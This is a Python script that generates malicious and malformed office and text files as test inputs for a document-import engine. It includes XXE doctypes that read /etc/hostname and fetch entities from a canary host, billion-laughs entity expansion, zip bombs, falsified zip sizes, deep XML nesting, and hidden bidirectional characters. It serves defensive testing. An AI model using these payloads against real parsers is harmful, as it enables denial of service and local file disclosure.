"""Makes harmful and broken files: every cause in every format it can occur in.

`HARM` names each with the kind of loss it must give; `HEALED` those that are read all the same,
with what must be reported. Run as a script, it writes them to a folder to try by hand.
"""

import io
import sys
import zipfile
from pathlib import Path

from tests.engine.exchange.make_files import (
    MANIFEST,
    OFFICE,
    TEXT,
    Para,
    S,
    W,
    csv,
    docx,
    docx_raw,
    md,
    odt,
    odt_raw,
    packed,
    sheet,
    txt,
    xlsx,
    xlsx_raw,
)

STORY = [
    Para("» Zeven handtekeningen"),
    Para("Een moeder vertelt:"),
    Para("Voor een fiets had ik zeven handtekeningen nodig. Ik werd er moe van."),
    Para("Mei 2017"),
]
ROWS = [
    ["Titel", "Verhaal", "Functie", "Maand"],
    [
        "Zeven handtekeningen",
        "Voor een fiets had ik zeven handtekeningen nodig.",
        "moeder",
        "mei 2017",
    ],
]
GOOD = {
    "docx": docx(STORY),
    "odt": odt(STORY),
    "xlsx": xlsx(ROWS),
    "txt": txt(STORY),
    "md": md(STORY),
    "csv": csv(ROWS),
}
_BODY = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
_OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
_BILLION = (
    "<!DOCTYPE d ["
    '<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
_OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
_ONLINE = '<!DOCTYPE d [<!ENTITY x SYSTEM "http://canary.example.org/x">]>'
_PARAMETER = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://canary.example.org/d"> %p;]>'
_TYPES = {"out": _OUTSIDE, "net": _ONLINE, "parameter": _PARAMETER, "billion": _BILLION}


def ole(*names: str) -> bytes:
    """Make the container of Office before 2007, with the names of its streams."""
    return _OLE + b"".join(name.encode("utf-16-le") + bytes(64) for name in names)


def encrypted_zip(data: bytes) -> bytes:
    """Set the flag of a password on every entry of a zip file."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _with_document(xml: str | bytes) -> bytes:
    return docx_raw("", {"word/document.xml": xml})


def _docx_typed(doctype: str, entity: str) -> bytes:
    body = _BODY.replace("&x;", entity)
    return _with_document(
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}"><w:body>{body}</w:body>'
        "</w:document>"
    )


def _odt_typed(doctype: str, entity: str) -> bytes:
    return odt_raw(
        "",
        {
            "content.xml": f'<?xml version="1.0"?>{doctype}<office:document-content '
            f'xmlns:office="{OFFICE}" xmlns:text="{TEXT}"><office:body><office:text><text:p>'
            f"{entity}</text:p></office:text></office:body></office:document-content>"
        },
    )


def _xlsx_typed(doctype: str, entity: str) -> bytes:
    strings = f'<?xml version="1.0"?>{doctype}<sst xmlns="{S}"><si><t>{entity}</t></si></sst>'
    return xlsx_raw({"Blad1": sheet(ROWS)}, {"xl/sharedStrings.xml": strings})


def _deep_docx() -> bytes:
    inner = "<w:sdt><w:sdtContent>" * 400 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 400
    return docx_raw(inner)


def _deep_odt() -> bytes:
    return odt_raw("<text:section>" * 600 + "<text:p>x</text:p>" + "</text:section>" * 600)


def _deep_xlsx() -> bytes:
    return xlsx_raw({"Blad1": "<a>" * 600 + "</a>" * 600})


def _swollen(name: str, start: str, end: str, size: int = 40_000_000) -> dict[str, bytes | str]:
    return {name: start.encode() + b" " * size + end.encode()}


def _many_entries(data: bytes, count: int = 4_000) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(count):
            archive.writestr(f"x/{number}", b"")
    return buffer.getvalue()


def _lying_size(data: bytes) -> bytes:
    """Change the sizes in the directory of a zip: what it unpacks to is not what it says."""
    changed = bytearray(data)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = (7).to_bytes(4, "little")
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _bombs() -> dict[str, tuple[bytes, str]]:
    odt_start, odt_end = (
        f'<office:document-content xmlns:office="{OFFICE}">',
        "</office:document-content>",
    )
    return {
        "bom-docx.docx": (docx_raw("", _swollen("word/document.xml", "<w>", "</w>")), "bomb"),
        "bom-odt.odt": (odt_raw("", _swollen("content.xml", odt_start, odt_end)), "bomb"),
        "bom-xlsx.xlsx": (
            xlsx_raw({"a": sheet(ROWS)}, _swollen("xl/sharedStrings.xml", "<sst>", "</sst>")),
            "bomb",
        ),
        "bom-veel.docx": (_many_entries(GOOD["docx"]), "bomb"),
        "bom-liegt.docx": (
            _lying_size(docx_raw("", _swollen("word/document.xml", "<w>", "</w>", 3_000_000))),
            "damaged",
        ),
        "zip-in-zip.docx": (packed({"word/x.zip": packed({"a": b"a" * 100})}), "damaged"),
    }


def _typed() -> dict[str, tuple[bytes, str]]:
    made: dict[str, tuple[bytes, str]] = {}
    for name, doctype in _TYPES.items():
        entity = {"billion": "&a9;", "parameter": "x"}.get(name, "&x;")
        made[f"xxe-{name}.docx"] = (_docx_typed(doctype, entity), "entities")
        made[f"xxe-{name}.odt"] = (_odt_typed(doctype, entity), "entities")
        made[f"xxe-{name}.xlsx"] = (_xlsx_typed(doctype, entity), "entities")
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{_OUTSIDE}<a>&x;</a>'.encode("utf-16")
    made["xxe-utf16.docx"] = (_with_document(wide), "entities")
    return made


def _cut_short() -> dict[str, tuple[bytes, str]]:
    made = {
        f"afgekapt-{share}.{ending}": (GOOD[ending][: len(GOOD[ending]) * share // 10], "damaged")
        for ending in ("docx", "odt", "xlsx")
        for share in (3, 6, 9)
    }
    made["halve-xml.docx"] = (_with_document(f'<w:document xmlns:w="{W}"><w:body><w:p>'), "damaged")
    made["halve-xml.odt"] = (odt_raw("<text:p>"), "damaged")
    made["halve-xml.xlsx"] = (xlsx_raw({"a": "<worksheet><sheetData>"}), "damaged")
    made["zonder-tekst.docx"] = (packed({"word/styles.xml": "<a/>"}), "damaged")
    made["nul-in-xml.docx"] = (docx_raw("<w:p><w:r><w:t>a\0b</w:t></w:r></w:p>"), "damaged")
    made["surrogaat.docx"] = (
        docx_raw("<w:p><w:r><w:t>a&#xD800;b</w:t></w:r></w:p>"),
        "damaged",
    )
    made["surrogaat.xlsx"] = (
        xlsx_raw({"a": sheet(ROWS).replace("moeder", "m&#xDC00;")}),
        "damaged",
    )
    made["surrogaat.odt"] = (odt_raw("<text:p>a&#xD800;</text:p>"), "damaged")
    return made


def _mislabelled() -> dict[str, tuple[bytes, str]]:
    made: dict[str, tuple[bytes, str]] = {}
    for ending in ("docx", "odt", "xlsx", "txt", "md", "csv"):
        made[f"pdf.{ending}"] = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf")
        made[f"oud-word.{ending}"] = (ole("Root Entry", "WordDocument"), "old-word")
        made[f"oud-excel.{ending}"] = (ole("Root Entry", "Workbook"), "old-excel")
        made[f"foto.{ending}"] = (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "picture")
        made[f"pages.{ending}"] = (packed({"Index/Document.iwa": b"x"}), "pages")
        made[f"leeg.{ending}"] = (b"", "empty-file")
        made[f"rtf.{ending}"] = (b"{\\rtf1\\ansi Hallo}", "rtf")
        made[f"web.{ending}"] = (b"<!DOCTYPE html><html><body>x</body></html>", "html")
        made[f"map.{ending}"] = (packed({"a.txt": b"x"}), "archive")
        made[f"ruis.{ending}"] = (bytes((n * 37 + 11) % 256 for n in range(5000)), "not-text")
    made["ods.odt"] = (
        packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, stored_first=True),
        "other-sheet",
    )
    made["pptx.docx"] = (packed({"ppt/presentation.xml": "<a/>"}), "presentation")
    made["oud.xls"] = (ole("Root Entry", "Book"), "old-excel")
    made["oud.doc"] = (ole("Root Entry", "WordDocument"), "old-word")
    made["film.txt"] = (b"\0\0\0\x18ftypmp42" + bytes(50), "picture")
    return made


def _locked() -> dict[str, tuple[bytes, str]]:
    manifest = (
        f'<manifest:manifest xmlns:manifest="{MANIFEST}"><manifest:file-entry '
        'manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        "</manifest:manifest>"
    )
    made = {
        f"slot.{ending}": (ole("Root Entry", "EncryptionInfo", "EncryptedPackage"), "password")
        for ending in ("docx", "xlsx")
    }
    made["slot.odt"] = (
        odt_raw("", {"META-INF/manifest.xml": manifest, "content.xml": b"\x93\x10"}),
        "password",
    )
    for ending in ("docx", "odt", "xlsx"):
        made[f"slot-zip.{ending}"] = (encrypted_zip(GOOD[ending]), "password")
    return made


def _too_much() -> dict[str, tuple[bytes, str]]:
    large = 25_000_001
    made = {
        f"groot.{ending}": (GOOD[ending] + b" " * (large - len(GOOD[ending])), "too-large")
        for ending in GOOD
    }
    made["lang.txt"] = (b"Ik belde weer eens op. \n" * 450_000, "too-long")
    made["lang.csv"] = (b"Verhaal\n" + b"Ik belde.\n" * 110_000, "too-long")
    made["diep.docx"] = (_deep_docx(), "nested")
    made["diep.odt"] = (_deep_odt(), "nested")
    made["diep.xlsx"] = (_deep_xlsx(), "nested")
    return made


def harm() -> dict[str, tuple[bytes, str]]:
    """Make the files that must be refused, with the kind of their refusal."""
    return _bombs() | _typed() | _cut_short() | _mislabelled() | _locked() | _too_much()


_SIGNS = "Voor\u200b een \u202efiets\u202c had ik zeven handtekeningen nodig. Ik werd er moe van."


def _signed_paras(text: str) -> list[Para]:
    return [*STORY[:2], Para(text), STORY[3]]


def _signed_rows(text: str) -> list[list[str]]:
    return [ROWS[0], ["Zeven handtekeningen", text, "moeder", "mei 2017"]]


def healed() -> dict[str, tuple[bytes, str]]:
    """Make the files that are read all the same, with the kind that the report must name."""
    made = {
        "teken.docx": (docx(_signed_paras(_SIGNS)), "hidden-characters"),
        "teken.odt": (odt(_signed_paras(_SIGNS)), "hidden-characters"),
        "teken.txt": (txt(_signed_paras(_SIGNS)), "hidden-characters"),
        "teken.md": (md(_signed_paras(_SIGNS)), "hidden-characters"),
        "teken.csv": (csv(_signed_rows(_SIGNS)), "hidden-characters"),
        "teken.xlsx": (xlsx(_signed_rows(_SIGNS)), "hidden-characters"),
    }
    for ending in ("txt", "md", "csv"):
        good = GOOD[ending]
        made[f"nul.{ending}"] = (good.replace(b"fiets", b"fi\0ets"), "control-characters")
        lone = good.replace(b"fiets", b"fi\xed\xa0\x80ets")
        made[f"surrogaat.{ending}"] = (lone, "control-characters")
        wide = good.decode().replace("fiets", "fi\ud800ets").encode("utf-16", "surrogatepass")
        made[f"surrogaat-16.{ending}"] = (wide, "control-characters")
        made[f"windows.{ending}"] = (
            good.decode().replace("nodig.", "nodig. Geïrriteerd.").encode("cp1252"),
            "encoding",
        )
        made[f"utf16.{ending}"] = (good.decode().encode("utf-16-le"), "encoding")
        made[f"is-docx.{ending}"] = (GOOD["docx"], "mislabelled")
    made["is-odt.docx"] = (GOOD["odt"], "mislabelled")
    made["is-xlsx.docx"] = (GOOD["xlsx"], "mislabelled")
    made["is-txt.docx"] = (GOOD["txt"], "mislabelled")
    made["is-csv.xlsx"] = (GOOD["csv"], "mislabelled")
    body = "".join(f"<w:p><w:r><w:t>{p.text}</w:t></w:r></w:p>" for p in STORY)
    made["macro.docm"] = (docx_raw(body, {"word/vbaProject.bin": b"x"}), "macros")
    made["macro.odt"] = (
        odt_raw(
            "".join(f"<text:p>{p.text}</text:p>" for p in STORY), {"Basic/Standard/M.xml": "<a/>"}
        ),
        "macros",
    )
    made["macro.xlsm"] = (
        xlsx_raw({"Blad1": sheet(ROWS)}, {"xl/vbaProject.bin": b"x"}),
        "macros",
    )
    return made


def main() -> None:
    """Write all files to the folder given."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, (data, _) in (harm() | healed()).items():
        (folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
